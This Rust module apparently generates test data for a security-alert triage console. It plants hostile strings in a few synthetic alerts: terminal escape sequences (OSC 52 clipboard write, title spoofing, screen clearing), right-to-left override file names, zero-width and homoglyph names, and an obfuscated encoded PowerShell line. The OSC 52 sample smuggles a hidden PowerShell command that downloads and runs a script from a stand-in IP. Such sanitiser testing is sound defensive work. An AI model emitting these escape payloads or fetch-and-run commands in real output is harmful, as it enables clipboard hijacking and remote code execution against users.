//! Attacker-controlled strings planted in a few alerts, so every part of the console that shows
//! API text is exercised against them: terminal escapes, bidi overrides, invisible characters,
//! homoglyphs, a huge command line, CJK and emoji.

use super::artifacts::hashes;
use super::payloads::{base64_utf8, encode_command};
use crate::rng::Rng;
use mde_model::{
    Alert, DetectionStatus, EntityType, Evidence, LoggedOnUser, RelatedUser, Timestamp,
};

/// Length of the long command-line sample, in characters.
pub const LONG_COMMAND_LINE_CHARS: usize = 50_000;
/// The most alerts that carry the 50,000-character command line (memory stays sane at 100k).
const MAX_LONG_COMMAND_LINES: usize = 3;

/// The kinds of hostile string, in the order they are planted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Osc52,
    Osc0Title,
    CsiClear,
    C1Csi,
    RloFileName,
    ZeroWidth,
    Homoglyph,
    LongCommandLine,
    CjkTitle,
    EmojiUser,
    CjkPath,
}

const KINDS: &[(Kind, &str)] = &[
    (Kind::Osc52, "osc52-clipboard-write"),
    (Kind::Osc0Title, "osc0-window-title"),
    (Kind::CsiClear, "csi-clear-screen"),
    (Kind::C1Csi, "c1-8bit-csi"),
    (Kind::RloFileName, "rlo-file-name"),
    (Kind::ZeroWidth, "zero-width-user"),
    (Kind::Homoglyph, "cyrillic-homoglyph"),
    (Kind::LongCommandLine, "long-command-line"),
    (Kind::CjkTitle, "cjk-emoji-title"),
    (Kind::EmojiUser, "cjk-emoji-user"),
    (Kind::CjkPath, "cjk-emoji-path"),
];

fn sample(kind: Kind) -> String {
    match kind {
        // Writes a command into the analyst's clipboard on terminals that honour OSC 52.
        Kind::Osc52 => format!(
            "cmd.exe /c echo \u{1b}]52;c;{}\u{7} && whoami",
            base64_utf8("powershell -w hidden -c \"iwr http://203.0.113.66/p.ps1|iex\"\n")
        ),
        Kind::Osc0Title => {
            "\u{1b}]0;mde-triage: 0 open alerts\u{7}Suspicious PowerShell command line".to_string()
        }
        Kind::CsiClear => {
            "Scan finished.\u{1b}[2J\u{1b}[H\u{1b}[32mAll clear, no threats found\u{1b}[0m"
                .to_string()
        }
        Kind::C1Csi => "report\u{9b}2J\u{9b}1;1Hclean.exe".to_string(),
        Kind::RloFileName => "invoice\u{202e}fdp.exe".to_string(),
        Kind::ZeroWidth => "adm\u{200b}inistrator\u{200d}".to_string(),
        Kind::Homoglyph => "svch\u{43e}st.exe".to_string(),
        Kind::LongCommandLine => long_command_line(),
        Kind::CjkTitle => "可疑的 PowerShell 活动 🚨 横向移动".to_string(),
        Kind::EmojiUser => "田中太郎🦊".to_string(),
        Kind::CjkPath => "C:\\Users\\tanaka\\デスクトップ\\請求書_2024📄".to_string(),
    }
}

/// Every hostile string the generator plants, by name, exactly as it appears in the data; tests
/// elsewhere (sanitiser, UI, store) can reuse them.
pub fn hostile_samples() -> Vec<(&'static str, String)> {
    KINDS.iter().map(|(k, name)| (*name, sample(*k))).collect()
}

/// An encoded PowerShell command line exactly `LONG_COMMAND_LINE_CHARS` long: a real
/// `-EncodedCommand` payload padded the way obfuscators pad (spaces between arguments).
fn long_command_line() -> String {
    let head = "powershell.exe -NoP -NonI -W Hidden";
    let tail_switch = " -EncodedCommand ";
    // Each 3 UTF-16 units (6 bytes) become 8 base64 characters.
    let budget = LONG_COMMAND_LINE_CHARS - head.len() - tail_switch.len() - 64;
    let units = budget / 8 * 3;
    let stub = "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))";
    let pad = units.saturating_sub(stub.len() + 10);
    let script = format!("$p='{}';{stub}", "A".repeat(pad));
    let encoded = encode_command(&script);
    let spaces =
        LONG_COMMAND_LINE_CHARS.saturating_sub(head.len() + tail_switch.len() + encoded.len());
    let mut s = String::with_capacity(LONG_COMMAND_LINE_CHARS);
    s.push_str(head);
    s.extend(std::iter::repeat_n(' ', spaces));
    s.push_str(tail_switch);
    s.push_str(&encoded);
    s
}

/// How many alerts out of `n` get a hostile string: ~2%, and at least one of each kind once
/// the tenant is big enough to hide them among ordinary alerts.
fn hostile_count(n: usize) -> usize {
    n.div_ceil(50).max(KINDS.len().min(n / 20)).min(n)
}

/// Plants hostile strings in a deterministic ~2% of `alerts`.
pub fn inject(rng: &mut Rng, alerts: &mut [Alert]) {
    let n = alerts.len();
    let count = hostile_count(n);
    if count == 0 {
        return;
    }
    // Partial Fisher–Yates: `count` distinct positions.
    let mut idx: Vec<usize> = (0..n).collect();
    for i in 0..count {
        let j = i + rng.index(n - i);
        idx.swap(i, j);
    }
    let samples: Vec<String> = KINDS.iter().map(|(k, _)| sample(*k)).collect();
    let mut long_used = 0;
    for (slot, &pos) in idx[..count].iter().enumerate() {
        let mut k = slot % KINDS.len();
        if KINDS[k].0 == Kind::LongCommandLine {
            if long_used >= MAX_LONG_COMMAND_LINES {
                k = (k + 1) % KINDS.len();
            } else {
                long_used += 1;
            }
        }
        plant(&mut alerts[pos], KINDS[k].0, &samples[k]);
    }
}

fn plant(a: &mut Alert, kind: Kind, s: &str) {
    match kind {
        Kind::Osc52 | Kind::LongCommandLine => {
            leaf_process(a).process_command_line = Some(s.to_string());
        }
        Kind::Homoglyph => {
            let p = leaf_process(a);
            name_file(p, s, "C:\\Windows\\Temp");
            p.process_command_line = Some(format!("C:\\Windows\\Temp\\{s} -k netsvcs"));
        }
        Kind::Osc0Title | Kind::CjkTitle => a.title = s.to_string(),
        Kind::CsiClear => {
            let d = a.description.take().unwrap_or_default();
            a.description = Some(format!("{d}\n{s}"));
        }
        Kind::C1Csi | Kind::RloFileName => {
            let mut f = file_like(a);
            name_file(&mut f, s, "C:\\Users\\Public\\Downloads");
            a.evidence.push(f);
        }
        Kind::CjkPath => {
            let mut f = file_like(a);
            name_file(&mut f, "請求書.pdf.exe", s);
            a.evidence.push(f);
        }
        Kind::ZeroWidth | Kind::EmojiUser => {
            let domain = Some(super::tenant::DOMAIN.to_string());
            a.related_user = Some(RelatedUser {
                user_name: Some(s.to_string()),
                domain_name: domain.clone(),
            });
            a.logged_on_users = vec![LoggedOnUser {
                account_name: Some(s.to_string()),
                domain_name: domain,
            }];
            for e in &mut a.evidence {
                if e.entity_type == EntityType::User {
                    e.account_name = Some(s.to_string());
                }
            }
        }
    }
}

/// An empty File item timed like the alert's other evidence.
fn file_like(a: &Alert) -> Evidence {
    let mut f = Evidence::empty(EntityType::File);
    f.evidence_creation_time = recorded(a);
    f.detection_status = Some(DetectionStatus::Detected);
    f
}

/// Names a file or process image, with the hashes that name always carries.
fn name_file(e: &mut Evidence, name: &str, folder: &str) {
    let (sha1, sha256) = hashes(name);
    e.file_name = Some(name.to_string());
    e.file_path = Some(folder.to_string());
    e.sha1 = Some(sha1);
    e.sha256 = Some(sha256);
}

/// When the alert's evidence was recorded (a second after creation if it has none yet).
fn recorded(a: &Alert) -> Option<Timestamp> {
    a.evidence
        .iter()
        .find_map(|e| e.evidence_creation_time)
        .or_else(|| {
            a.alert_creation_time
                .map(|t| Timestamp(t.0 + chrono::Duration::seconds(1)))
        })
}

/// The last process of the alert (never a parent in its chain); one is added if it has none.
fn leaf_process(a: &mut Alert) -> &mut Evidence {
    let pos = match a
        .evidence
        .iter()
        .rposition(|e| e.entity_type == EntityType::Process)
    {
        Some(p) => p,
        None => {
            let mut p = Evidence::empty(EntityType::Process);
            p.evidence_creation_time = recorded(a);
            name_file(&mut p, "cmd.exe", "C:\\Windows\\System32");
            p.process_id = Some(7_412);
            p.process_creation_time = a.first_event_time;
            p.parent_process_id = Some(4_388);
            p.parent_process_file_name = Some("explorer.exe".to_string());
            p.parent_process_file_path = Some("C:\\Windows".to_string());
            a.evidence.push(p);
            a.evidence.len() - 1
        }
    };
    &mut a.evidence[pos]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn samples_contain_what_their_names_say() {
        let s: std::collections::HashMap<&str, String> = hostile_samples().into_iter().collect();
        assert!(s["osc52-clipboard-write"].contains("\u{1b}]52;c;"));
        assert!(s["osc0-window-title"].starts_with("\u{1b}]0;"));
        assert!(s["csi-clear-screen"].contains("\u{1b}[2J"));
        assert!(s["c1-8bit-csi"].contains('\u{9b}'));
        assert_eq!(s["rlo-file-name"], "invoice\u{202e}fdp.exe");
        assert!(s["zero-width-user"].contains('\u{200b}'));
        assert!(s["cyrillic-homoglyph"].contains('\u{43e}'));
        assert_eq!(
            s["long-command-line"].chars().count(),
            LONG_COMMAND_LINE_CHARS
        );
        assert!(s["cjk-emoji-title"].contains('🚨'));
        assert!(s["cjk-emoji-path"].contains('📄'));
        assert_eq!(s.len(), KINDS.len());
    }

    #[test]
    fn counts_scale_at_two_percent_with_a_floor() {
        assert_eq!(hostile_count(0), 0);
        assert_eq!(hostile_count(10), 1);
        assert_eq!(hostile_count(500), KINDS.len());
        assert_eq!(hostile_count(100_000), 2_000);
    }

    #[test]
    fn long_command_line_is_a_real_encoded_command() {
        let s = long_command_line();
        let b64 = s.rsplit(' ').next().expect("argument");
        let raw = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, b64)
            .expect("base64");
        assert_eq!(raw.len() % 2, 0);
        assert!(raw.starts_with(&[b'$', 0, b'p', 0]));
    }
}
